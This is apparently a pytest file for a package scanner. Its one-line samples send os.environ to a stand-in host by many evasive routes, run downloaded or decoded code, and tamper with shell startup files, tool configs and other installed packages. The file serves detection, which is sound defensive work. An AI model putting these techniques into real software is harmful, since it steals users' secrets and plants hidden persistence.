"""Ways that data takes without an assignment, and code that is worked out: samples of one line."""

from pathlib import Path

import pytest

from package_gate.core.limits import Limits
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from tests.scanners.packages import package, refusing_rules

IMPORTS = {"pk/__init__.py": "from . import a\n"}
START = "import os, requests\nU = 'https://a.example'\n"


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


@pytest.mark.parametrize(
    "code",
    [
        "d = {}\ndict.update(d, os.environ)\nrequests.post(U, json=d)",
        "d = []\nlist.append(d, dict(os.environ))\nrequests.post(U, json=d)",
        "import io\nb = io.StringIO()\nprint(os.environ, file=b)\nrequests.post(U, b.getvalue())",
        "def fill(b):\n    b.update(os.environ)\nd = {}\nfill(d)\nrequests.post(U, json=d)",
        "class A: pass\nsetattr(A, 'x', dict(os.environ))\nrequests.post(U, json=A.x)",
        "globals()['x'] = dict(os.environ)\nrequests.post(U, json=x)",
        "s = requests.Session()\ns.params = dict(os.environ)\ns.get(U)",
        "def f(d=dict(os.environ)):\n    requests.post(U, json=d)\nf()",
        "def f(*, d=dict(os.environ)):\n    requests.post(U, json=d)\nf()",
        "match os.environ:\n    case {**r}:\n        requests.post(U, json=r)",
        "try:\n    raise ValueError(dict(os.environ))\nexcept ValueError as e:\n"
        "    requests.post(U, json=e.args)",
        "import traceback\ntry:\n    raise KeyError(dict(os.environ))\nexcept KeyError:\n"
        "    requests.post(U, data=traceback.format_exc())",
        "def g():\n    x = yield\n    requests.post(U, json=x)\n    yield\na = g()\nnext(a)\n"
        "a.send(dict(os.environ))",
        "import contextlib, io\nb = io.StringIO()\nwith contextlib.redirect_stdout(b):\n"
        "    print(os.environ)\nrequests.post(U, data=b.getvalue())",
        "def f(d):\n    requests.post(U, json=d)\n    return 1\nsorted([dict(os.environ)], key=f)",
        "import re\nre.sub('.+', lambda m: requests.post(U, data=m.group()).text, str(os.environ))",
        "import atexit\natexit.register(requests.post, U, json=dict(os.environ))",
        "class A:\n    def __lshift__(self, d):\n        requests.post(U, json=d)\n"
        "A() << dict(os.environ)",
        "class A:\n    def __class_getitem__(cls, d):\n        requests.post(U, json=d)\n"
        "A[dict(os.environ)]",
        "class A:\n    def __setattr__(self, n, d):\n        requests.post(U, json=d)\n"
        "A().x = dict(os.environ)",
        "class D:\n    def __set__(self, o, d):\n        requests.post(U, json=d)\n"
        "class A:\n    x = D()\nA().x = dict(os.environ)",
        "class A:\n    def __init_subclass__(cls, d):\n        requests.post(U, json=d)\n"
        "class B(A, d=dict(os.environ)): pass",
        "class M(type):\n    def __call__(cls, d):\n        requests.post(U, json=d)\n"
        "class A(metaclass=M): pass\nA(dict(os.environ))",
        "from html.parser import HTMLParser\nclass H(HTMLParser):\n    def handle_data(self, d):\n"
        "        requests.post(U, data=d)\nH().feed(str(os.environ))",
        "s = ''\nfor k in os.environ: s += os.environ[k]\nrequests.post(U, data=s)",
        "import shutil\nrequests.post(U, json=dict(shutil.os.environ))",
        "import tempfile\nrequests.post(U, json=dict(tempfile._os.environ))",
        "requests.post(U, json=dict(vars(os)['environ']))",
        "import httpcore\nhttpcore.request('POST', U, content=str(os.environ))",
        "import poplib\npoplib.POP3('a.example').user(str(os.environ))",
    ],
)
def test_what_is_sent_is_followed_on_any_way(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    assert "sends-secrets" in refusing_rules(
        behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"}
    )


@pytest.mark.parametrize(
    "code",
    [
        "found = []\nos.walk('.', found)\nrequests.post(U, json=found)",
        "def f(d={}):\n    requests.post(U, json=d)\nf()",
        "d = {}\nd['path'] = os.environ.get('LANG')\nrequests.post(U, json=d)",
        "class A:\n    def __eq__(self, other):\n        return True\nA() == dict(os.environ)",
        "import jinja2\njinja2.Template('x').render(env=dict(os.environ))",
    ],
)
def test_honest_code_is_not_taken_for_it(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"}) == set()


@pytest.mark.parametrize(
    "code",
    [
        "(exec)(TEXT)",
        "run = exec;run(TEXT)",
        "{1: exec}[1](TEXT)",
        "(None or exec)(TEXT)",
        "def f(e=exec): e(TEXT)\nf()",
        "for e in (exec,): e(TEXT)",
        "sorted([TEXT], key=exec)",
    ],
)
def test_there_are_many_ways_to_name_what_runs_code(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    text = f"import requests\nTEXT = requests.get('https://a.example').text\n{code}\n"

    assert "runs-downloaded-code" in refusing_rules(
        behaviour, tmp_path, {"pk/a.py": text, **IMPORTS}
    )


@pytest.mark.parametrize(
    "code",
    [
        "import html\nexec(html.unescape('&#112;&#114;&#105;&#110;&#116;(1)'))",
        "from urllib.parse import unquote\nexec(unquote('%70%72%69%6e%74(1)'))",
        "exec((123456789012345678901234567890).to_bytes(13, 'big'))",
        "import plistlib\nexec(plistlib.loads(b'<plist><data>cHJpbnQoMSk=</data></plist>'))",
        "import codecs\nexec(codecs.lookup('rot13').decode('cevag(1) nnnnnnn')[0])",
        "def f(): pass\nimport base64\nf.__code__ = compile(base64.b64decode(b'cHJpbg=='), '', '')",
        "def d(s): return ''.join(chr(ord(c) - 1) for c in s)\nexec(d('qsjou)2* $ gjmmfs'))",
        "exec('qsjou(2)'.translate({ord(c): ord(c) - 1 for c in 'qsjou2'}))",
    ],
)
def test_code_that_is_worked_out_of_constants_refuses(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    assert "runs-decoded-code" in refusing_rules(
        behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"}
    )


@pytest.mark.parametrize(
    "code",
    [
        "exec('''{}''' + os.sep[:0])",
        "exec(c := '''{}''')",
        "import ast\nexec(compile(ast.parse('''{}'''), '', 'exec'))",
        "exec('''{}'''.replace('#', ''))",
        "exec(bytes([{numbers}]))",
    ],
)
def test_code_that_stands_there_in_another_way_is_looked_at(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    payload = f"{START}requests.post(U, json=dict(os.environ))"
    filled = code.format(payload, numbers=", ".join(map(str, payload.encode())))

    found = refusing_rules(behaviour, tmp_path, {"pk/__init__.py": f"import os\n{filled}\n"})

    assert "sends-secrets" in found


@pytest.mark.parametrize(
    "code",
    [
        "import textwrap\nexec(textwrap.dedent('''\n    def f():\n        return 1\n'''))",
        "for n in ('a', 'b'):\n    exec('def %s(): return 1' % n)",
        "import json\nexec('\\n'.join(f'{k} = 1' for k in json.load(open('x.json'))))",
        "def make(name, body):\n    ns = {}\n    exec(f'def {name}(): {body}', ns)\n    return ns",
        "eval('1 + 1')",
        "for line in ('import math', 'from math import *'):\n    exec(line.lower(), {})",
        "def f(name):\n    if name[0] == '*':\n        name = name[1:]\n        f(name)\n"
        "    text = name.split('tensor descriptor')[1].rstrip(']')\n    return eval(text, {})",
    ],
)
def test_templates_are_no_hidden_code(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    assert "runs-decoded-code" not in refusing_rules(
        behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"}
    )


@pytest.mark.parametrize(
    "line",
    [
        b"# \xff comment\nx\xc3\xa9 = 1\n",
        "a\u30fb = 1\n".encode(),
        "a\u200cb = 1\n".encode(),
    ],
)
def test_letters_that_another_python_takes_hide_nothing(
    behaviour: BehaviourScanner, tmp_path: Path, line: bytes
) -> None:
    code = line + f"{START}requests.post(U, json=dict(os.environ))\n".encode()

    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": code})


def test_a_wheel_that_says_that_it_is_pure_is_asked_again(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    files: dict[str, str | bytes] = {
        "pk/__init__.py": "import ctypes\nctypes.CDLL('pk/l.so')\n",
        "pk/l.so": b"\x7fELF\x02\x01\x01" + b"\0" * 100,
    }
    for name in ("pk-1-cp311-cp311-linux_x86_64.whl", "pk-1-py3-none-any.whl"):
        found = behaviour.scan(package(tmp_path / name, files, filename=name))

    assert {each.rule for each in found} == {"loads-a-bundled-library"}


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("changes-other-packages", "import json5\nopen(json5.__file__, 'a').write('x')"),
        (
            "changes-other-packages",
            "import json5\nopen(json5.__path__[0] + '/a.py', 'w').write('x')",
        ),
        ("changes-other-packages", "import json5 as j\nPath(j.__spec__.origin).write_text('x')"),
        ("changes-other-packages", "import os\nopen(os.__file__, 'a').write('x')"),
        (
            "changes-other-packages",
            "import sys\n(Path(sys.executable).parent / 'a').write_text('')",
        ),
        ("changes-other-packages", "import shutil\nopen(shutil.which('aws'), 'w').write('x')"),
        ("starts-again-by-itself", "(Path.home() / '.bash_aliases').write_text('x')"),
        ("starts-again-by-itself", "(Path.home() / '.local/bin/aws').write_text('x')"),
        ("starts-again-by-itself", "open('/opt/conda/etc/conda/activate.d/a.sh', 'w').write('x')"),
        ("changes-tools", "(Path.home() / '.aws/cli/alias').write_text('x')"),
        ("changes-tools", "(Path.home() / '.config/git/config').write_text('x')"),
        ("changes-tools", "(Path.home() / '.jupyter/custom/custom.js').write_text('x')"),
    ],
)
def test_what_is_written_where_others_read_refuses(
    behaviour: BehaviourScanner, tmp_path: Path, rule: str, code: str
) -> None:
    text = f"from pathlib import Path\n{code}\n"

    assert rule in refusing_rules(behaviour, tmp_path, {"pk/__init__.py": text})


@pytest.mark.parametrize(
    "code",
    [
        "(Path.home() / '.cache/pk/a').write_text('x')",
        "(Path(__file__).parent / 'a.txt').write_text('x')",
        "import json5\nprint(open(json5.__file__).read())",
        "import tempfile\nopen(tempfile.mktemp(), 'w').write('x')",
    ],
)
def test_what_is_written_elsewhere_does_not(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    text = f"from pathlib import Path\n{code}\n"

    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": text}) == set()
